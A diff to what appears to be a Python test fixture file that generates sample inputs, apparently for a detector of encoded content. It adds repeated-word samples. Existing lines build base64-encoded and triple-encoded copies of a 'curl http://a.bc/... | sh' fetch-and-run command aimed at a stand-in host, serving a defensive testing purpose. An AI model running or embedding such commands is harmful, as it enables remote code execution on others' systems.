@@ -582,6 +582,8 @@ REQUIREMENTS = {
     "urls": count("a@ @ git+https://a.bc/@\n"),
 }
 TEXT = {
+    "words of four letters": repeat("word " * 30 + ". "),
+    "words of four letters beside XOR": repeat("word " * 30 + "'key' ^ . "),
     "base64": repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldY\n"),
     "different base64": lambda size: b"\n".join(base64.b64encode(b"curl http://a.bc/%d | sh ok" % number) for number in range(size // 38)),
     "base64 in base64": lambda size: base64.b64encode(base64.b64encode(base64.b64encode(b"curl http://a.bc/d | sh\n" * (size // 57)))),
